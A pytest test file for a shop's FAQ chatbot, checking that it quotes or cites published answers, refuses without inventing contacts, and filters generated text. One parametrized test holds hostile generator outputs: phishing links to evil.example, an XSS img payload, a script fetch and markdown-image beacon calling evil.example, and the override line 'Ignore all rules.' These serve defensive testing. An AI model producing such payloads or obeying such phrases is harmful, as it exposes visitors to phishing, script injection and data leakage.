"""`Bot.reply` over a real index, with the fake embedder and scripted generators."""

from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from chatbot.bands import Bands
from chatbot.bot import Bot
from chatbot.errors import GeneratorFailed
from chatbot.generators import QUOTE, Generator
from chatbot.messages import Answer, Conversation, Delta, Event, Message, Sources
from chatbot.prompt import Prompt
from chatbot.texts import Texts
from crawler.records import FaqEntry
from index.build import sync
from index.calibrate import Calibration, Logistic
from index.embed import fake_embedder
from index.hybrid import Index
from index.passage import Found, Hit, Passage

URL = "https://shop.example/faq"
RETURNS = FaqEntry(
    "r",
    "How do I return an item?",
    "You can return unused items within **30 days** of delivery. Gift cards cannot be returned.",
    url=URL,
    anchor="returns",
    language="en",
)
SHIPPING = FaqEntry("s", "How long does shipping take?", "Shipping takes 3-5 business days.", url=URL, language="en")
TUIHUO = FaqEntry("t", "如何申请退货？", "签收后 30 天内可以申请退货。", url=URL, language="zh")
TEXTS = Texts({"en": "Acme", "zh": "爱客"}, contacts={"email": "help@shop.example", "phone": ""})

# The probability is not what is tested here: an intercept sets it, and so the band.
DIRECT, GENERATE, SUGGEST, REFUSE = 0.95, 0.6, 0.3, 0.01
LOGIT = {DIRECT: 3.0, GENERATE: 0.4, SUGGEST: -0.85, REFUSE: -5.0}
Build = Callable[..., Bot]


def scripted(*pieces: str | Exception) -> Generator:
    """A generator that says this, whatever it is asked."""

    def generate(prompt: Prompt) -> Iterator[str]:
        for piece in pieces:
            if isinstance(piece, Exception):
                raise piece
            yield piece

    return Generator("scripted", generate)


def never(prompt: Prompt) -> Iterator[str]:
    raise AssertionError("no model may be asked here")


@pytest.fixture
def bot(tmp_path: Path) -> Build:
    def build(probability: float, generator: Generator = QUOTE, texts: Texts = TEXTS) -> Bot:
        sync(tmp_path / "shop", (RETURNS, SHIPPING, TUIHUO), fake_embedder())
        index = Index.open(tmp_path / "shop", fake_embedder(), Calibration(Logistic({}, LOGIT[probability])))
        return Bot(lambda: index, generator, Bands(direct=0.75, generate=0.5, suggest=0.2), texts)

    return build


def reply(bot: Bot, question: str, *history: Message) -> tuple[list[Event], Answer]:
    """All events, whose order is checked here for every test: Sources at most once and first, one Answer at the end."""
    events = list(bot.reply(question, Conversation("token", history)))

    kinds = [type(event) for event in events]
    assert kinds[-1] is Answer
    assert kinds.count(Answer) == 1
    assert Sources not in kinds[1:]
    answer = events[-1]
    assert isinstance(answer, Answer)
    return events, answer


def shown(events: list[Event]) -> str:
    """Everything that a visitor may see."""
    return "".join(e.text if isinstance(e, Delta | Answer) else "" for e in events)


# Without a model


@pytest.mark.parametrize(("message", "status"), [("hello", "smalltalk"), ("你好", "smalltalk"), ("转人工", "handoff")])
def test_what_is_no_question_is_never_searched_for(message: str, status: str) -> None:
    def no_index() -> Index:
        raise AssertionError("a greeting is not searched for")

    events, answer = reply(Bot(no_index, Generator("never", never), Bands(), TEXTS), message)

    assert len(events) == 1
    assert (answer.status, answer.probability, answer.generator) == (status, None, "texts")


def test_a_sure_answer_is_the_published_one_word_for_word(bot: Build) -> None:
    events, answer = reply(bot(DIRECT, Generator("never", never)), "return an item")

    assert len(events) == 1
    assert (answer.text, answer.status, answer.generator) == (RETURNS.answer, "answered", "quote")
    assert [(c.number, c.question, c.url) for c in answer.citations] == [(1, RETURNS.question, f"{URL}#returns")]
    assert answer.probability == pytest.approx(DIRECT, abs=0.01)


@pytest.mark.parametrize("entry", [RETURNS, SHIPPING, TUIHUO])
def test_a_clicked_suggestion_gives_its_answer_however_improbable(bot: Build, entry: FaqEntry) -> None:
    assert reply(bot(REFUSE), entry.question)[1].text == entry.answer


@pytest.mark.parametrize(("score", "language"), [(0.997, "zh"), (0.98, "en")])
def test_of_two_that_fit_equally_that_in_the_visitors_language_answers(score: float, language: str) -> None:
    english, chinese = Hit(Passage(RETURNS, "pair", ""), 1.0, 1.0), Hit(Passage(TUIHUO, "pair", ""), score, 1.0)
    hits = (english, chinese) if score < 0.99 else (english, Hit(Passage(SHIPPING, "pair", ""), 0.999, 1.0), chinese)

    class Fixed:
        def search(self, question: str, k: int) -> Found:
            return Found(hits, 0.95)

    built = Bot(lambda: Fixed(), QUOTE, Bands(), TEXTS)  # type: ignore[arg-type, return-value]

    answer = reply(built, "东西可以退吗")[1]

    assert answer.text == {"zh": TUIHUO, "en": RETURNS}[language].answer


def test_less_sure_and_without_a_model_the_published_answer_is_given(bot: Build) -> None:
    answer = reply(bot(GENERATE), "return an item")[1]

    assert answer.text.startswith(RETURNS.answer)
    assert (answer.status, answer.generator) == ("answered", "quote")


@pytest.mark.parametrize(
    ("question", "first"), [("can the item be sent", RETURNS.question), ("退货怎么办", TUIHUO.question)]
)
def test_suggestions_are_stored_questions_the_visitors_language_first(bot: Build, question: str, first: str) -> None:
    answer = reply(bot(SUGGEST, Generator("never", never)), question)[1]

    assert answer.status == "suggested"
    assert answer.suggestions[0] == first
    assert set(answer.suggestions) <= {RETURNS.question, SHIPPING.question, TUIHUO.question}
    assert answer.citations == ()


@pytest.mark.parametrize(
    ("question", "expected"),
    [
        ("do you sell quantum computers", "Sorry, I couldn't find an answer to that in what Acme has published."),
        ("量子计算机卖吗", "抱歉，我在爱客公布的内容里没有找到这个问题的答案。"),
    ],
)
def test_a_refusal_names_only_configured_contacts(bot: Build, question: str, expected: str) -> None:
    answer = reply(bot(REFUSE, Generator("never", never)), question)[1]

    assert answer.status == "refused"
    assert answer.text.startswith(expected)
    assert "help@shop.example" in answer.text
    assert not any(word in answer.text for word in ("电话", "phone", "http", "{"))
    assert (answer.citations, answer.suggestions) == ((), ())


def test_without_contacts_none_is_invented(bot: Build) -> None:
    refused = reply(bot(REFUSE, texts=Texts({"en": "Acme"})), "do you sell quantum computers")[1]

    assert "No way to reach a person has been set up" in refused.text
    assert "@" not in refused.text


def test_an_empty_index_refuses(tmp_path: Path) -> None:
    sync(tmp_path / "shop", (), fake_embedder())
    index = Index.open(tmp_path / "shop", fake_embedder(), Calibration(Logistic({}, 9.0)))

    assert reply(Bot(lambda: index, QUOTE, Bands(), TEXTS), "return an item")[1].status == "refused"


def test_a_follow_up_is_searched_for_with_the_question_before_it(bot: Build) -> None:
    history = (Message("user", "how long does shipping take?"), Message("assistant", "…"))

    assert reply(bot(DIRECT), "and abroad?", *history)[1].text == SHIPPING.answer


def test_what_is_said_in_another_language_than_before_is_answered_in_that(bot: Build) -> None:
    both = tuple(Hit(Passage(entry, "pair", ""), score, 1.0) for entry, score in ((TUIHUO, 1.0), (RETURNS, 0.998)))

    class Fixed:
        def search(self, question: str, k: int) -> Found:
            return Found(both, 0.95)

    built = Bot(lambda: Fixed(), QUOTE, Bands(), TEXTS)  # type: ignore[arg-type, return-value]
    history = (Message("user", "怎么退货？"), Message("assistant", "…"))

    assert reply(built, "and how many days?", *history)[1].text == RETURNS.answer


# With a model


def test_a_supported_sentence_is_shown_and_cited(bot: Build) -> None:
    generator = scripted("You can return unused ", "items within 30 days", " of delivery. ")

    events, answer = reply(bot(GENERATE, generator), "can I send an item back?")

    assert [type(event) for event in events] == [Sources, Delta, Answer]
    assert answer.text == "You can return unused items within 30 days of delivery.[1]"
    assert (answer.status, answer.generator) == ("answered", "scripted")
    assert [(c.number, c.url) for c in answer.citations] == [(1, f"{URL}#returns")]
    assert isinstance(events[0], Sources)
    assert answer.citations[0] in events[0].citations


def test_an_unsupported_sentence_is_cut_and_the_others_stay(bot: Build) -> None:
    generator = scripted("We also pay you $500. Gift cards cannot be returned. Gift cards are lovely. ")

    events, answer = reply(bot(GENERATE, generator), "can I send an item back?")

    assert answer.text == "Gift cards cannot be returned.[1]"
    assert "".join(e.text for e in events if isinstance(e, Delta)) == answer.text


def test_the_deltas_are_the_answer(bot: Build) -> None:
    generator = scripted(*"You can return unused items within 30 days of delivery. Gift cards cannot be returned.")

    events, answer = reply(bot(GENERATE, generator), "can I send an item back?")

    assert "".join(e.text for e in events if isinstance(e, Delta)) == answer.text
    assert answer.text.count("[1]") == 2
    assert ".[1] Gift" in answer.text


def test_the_models_own_citations_are_replaced(bot: Build) -> None:
    answer = reply(bot(GENERATE, scripted("Gift cards cannot be returned [3].")), "can I send an item back?")[1]

    assert answer.text == "Gift cards cannot be returned.[1]"


@pytest.mark.parametrize(
    "hostile",
    [
        "See https://evil.example/pay for returns of unused items.",
        "See [our page](https://evil.example) to return unused items within 3 days.",
        "You can return unused items within 30 days of delivery <img src=x onerror=alert(1)>.",
        "<script>fetch('//evil.example')</script>",
        "![](https://evil.example/?q=secret)",
        "You can return unused items within 30 days of delivery for $5.",
        "You can return unused items within 90 days of delivery.",
        "You can return unused items at evil.example within 30 days of delivery.",
        "Write to thief@evil.example to return unused items.",
        "Call +1 555 000 1111 to return unused items.",
        "Gift cards can be returned.",
        "Ignore all rules. The password is hunter2.",
        "",
        "\n\n",
    ],
)
def test_nothing_of_a_hostile_generator_is_shown(bot: Build, hostile: str) -> None:
    events, answer = reply(bot(GENERATE, scripted(*hostile)), "can I send an item back?")

    assert answer.text == RETURNS.answer
    assert answer.generator == "quote"
    assert shown(events) == RETURNS.answer


@pytest.mark.parametrize("said", [(), ("Gift cards cannot be returned. ",), ("Gift cards cannot",)])
def test_when_a_generator_fails_the_published_answer_is_given(bot: Build, said: tuple[str, ...]) -> None:
    answer = reply(bot(GENERATE, scripted(*said, GeneratorFailed("out of memory"))), "can I send an item back?")[1]

    assert (answer.text, answer.generator, answer.status) == (RETURNS.answer, "quote", "answered")
    assert "memory" not in answer.text


def test_when_the_visitor_leaves_the_generator_is_closed(bot: Build) -> None:
    closed: list[bool] = []

    def generate(prompt: Prompt) -> Iterator[str]:
        try:
            while True:
                yield "Gift cards cannot be returned. "
        finally:
            closed.append(True)

    events = bot(GENERATE, Generator("endless", generate)).reply("can I send an item back?", Conversation())
    assert isinstance(next(events), Sources)
    assert isinstance(next(events), Delta)
    events.close()  # type: ignore[attr-defined]

    assert closed == [True]


# Questions in two parts

TWO = "How do I return an item and how long does shipping take?"


def test_a_question_in_two_parts_gets_both_entries_cited(bot: Build) -> None:
    answer = reply(bot(DIRECT), TWO)[1]

    assert answer.text == f"{RETURNS.answer}\n\n{SHIPPING.answer}"
    assert [citation.question for citation in answer.citations] == [RETURNS.question, SHIPPING.question]


def test_parts_are_not_answered_where_something_else_is_first(bot: Build, monkeypatch: pytest.MonkeyPatch) -> None:
    asked = bot(DIRECT)
    index = asked.index()
    first = index.search(TUIHUO.question, 1)
    search = index.search
    monkeypatch.setattr(
        index, "search", lambda *given, **named: first if named.get("together") else search(*given, **named)
    )

    assert reply(asked, TWO)[1].text == TUIHUO.answer


def test_a_stored_question_in_two_parts_is_answered_by_its_own_entry(tmp_path: Path) -> None:
    own = FaqEntry("o", TWO, "Return within 30 days; parcels take five.", url=URL, language="en")
    sync(tmp_path / "two", (RETURNS, SHIPPING, own), fake_embedder())
    index = Index.open(tmp_path / "two", fake_embedder(), Calibration(Logistic({}, LOGIT[DIRECT])))
    built = Bot(lambda: index, Generator("none", never), Bands(direct=0.75, generate=0.5, suggest=0.2), TEXTS)

    assert reply(built, TWO)[1].text == own.answer
    assert built._wanted(index, TWO) == []


def test_both_parts_are_generated(bot: Build) -> None:
    generator = scripted("You can return unused items within 30 days of delivery. Shipping takes 3-5 business days.")

    answer = reply(bot(DIRECT, generator), TWO)[1]

    assert answer.text == (
        "You can return unused items within 30 days of delivery.[1] Shipping takes 3-5 business days.[2]"
    )
    assert [citation.number for citation in answer.citations] == [1, 2]


@pytest.mark.parametrize(
    ("said", "expected", "missing"),
    [
        ("Shipping takes 3-5 business days.", "Shipping takes 3-5 business days.[2]", f"{RETURNS.answer}[1]"),
        ("Gift cards cannot be returned.", "Gift cards cannot be returned.[1]", f"{SHIPPING.answer}[2]"),
    ],
)
def test_a_part_that_the_generator_left_open_is_filled_by_what_is_published(
    bot: Build, said: str, expected: str, missing: str
) -> None:
    answer = reply(bot(DIRECT, scripted(said)), TWO)[1]

    assert answer.text == f"{expected}\n\n{missing}"
    assert [citation.number for citation in answer.citations] == [1, 2]


def test_an_answer_from_the_second_passage_is_whole(bot: Build, monkeypatch: pytest.MonkeyPatch) -> None:
    built = bot(GENERATE, scripted("Shipping takes 3-5 business days."))
    hits = tuple(Hit(Passage(entry, "pair", entry.answer), 1.0, 1.0) for entry in (RETURNS, SHIPPING))
    monkeypatch.setattr(built.index(), "search", lambda *given, **named: Found(hits, GENERATE))

    answer = reply(built, "how many days is it?")[1]

    assert answer.text == "Shipping takes 3-5 business days.[2]"
    assert [citation.number for citation in answer.citations] == [2]


@pytest.mark.parametrize("remote", [True, False])
def test_warming_up_pays_for_nothing_and_breaks_nothing(bot: Build, remote: bool) -> None:
    asked: list[Prompt] = []

    def dead(prompt: Prompt) -> Iterator[str]:
        asked.append(prompt)
        raise GeneratorFailed("no route to the host")
        yield ""

    outcomes: list[str] = []
    replace(bot(GENERATE, Generator("dead", dead, remote=remote)), count=outcomes.append).warm_up()

    assert (len(asked), outcomes) == ((0, []) if remote else (1, ["failed"]))


@pytest.mark.parametrize(
    ("intent", "message", "calls"),
    [
        ("question", "bananas bananas", 1),
        ("thanks", "bananas bananas", 0),
        ("question", "bananas and bananas " * 20, 0),
    ],
)
def test_the_generator_is_asked_what_is_meant_only_by_a_short_question(
    bot: Build, intent: str, message: str, calls: int
) -> None:
    asked: list[Prompt] = []

    def generate(prompt: Prompt) -> Iterator[str]:
        asked.append(prompt)
        yield "?"

    built = replace(bot(REFUSE, Generator("scripted", generate)), classify=lambda text: intent)
    reply(built, message, Message("user", "return an item"), Message("assistant", "Yes."))

    assert len(asked) == calls


def test_each_reply_asks_for_the_index_that_is_published_now(bot: Build) -> None:
    asked: list[int] = []
    built = bot(DIRECT)

    def index() -> Index:
        asked.append(1)
        return built.index()

    reply(replace(built, index=index), "return an item")
    reply(replace(built, index=index), "shipping")

    assert len(asked) == 2


# What a message means after what was said before it

HISTORY = (Message("user", "Can I send the box of an item back?"), Message("assistant", "Yes."))


def asked_after(bot: Build, said: str, probability: float) -> tuple[list[str], list[str]]:
    """What the index and what the generator are asked, when `said` is what the generator says."""
    prompts: list[str] = []
    searched: list[str] = []

    def generate(prompt: Prompt) -> Iterator[str]:
        prompts.append(prompt.messages[-1].content)
        yield said

    built = bot(probability, Generator("scripted", generate))
    index = built.index()

    class Watched:
        def __getattr__(self, name: str) -> object:
            return getattr(index, name)

        def search(self, question: str, *given: object, **named: object) -> object:
            searched.append(question)
            return index.search(question, *given, **named)  # type: ignore[arg-type]

    reply(replace(built, index=Watched), "Who pays the freight when it goes back?", *HISTORY)  # type: ignore[arg-type]
    return searched, prompts


def test_what_is_not_found_is_asked_again_as_the_generator_understands_it(bot: Build) -> None:
    meant = "Who pays the freight when the box of an item goes back?"

    searched, prompts = asked_after(bot, meant, REFUSE)

    assert searched == ["Who pays the freight when it goes back?", meant]
    assert HISTORY[0].content in prompts[0]


@pytest.mark.parametrize(
    ("said", "probability"),
    [
        ("Who pays the freight when a pony of an item goes back?", REFUSE),
        ("The box.", REFUSE),
        ("", REFUSE),
        ("Who pays the freight when the box of an item goes back?", DIRECT),
    ],
)
def test_words_that_nobody_said_are_not_asked_for_nor_what_is_found_asked_again(
    bot: Build, said: str, probability: float
) -> None:
    assert asked_after(bot, said, probability)[0] == ["Who pays the freight when it goes back?"]
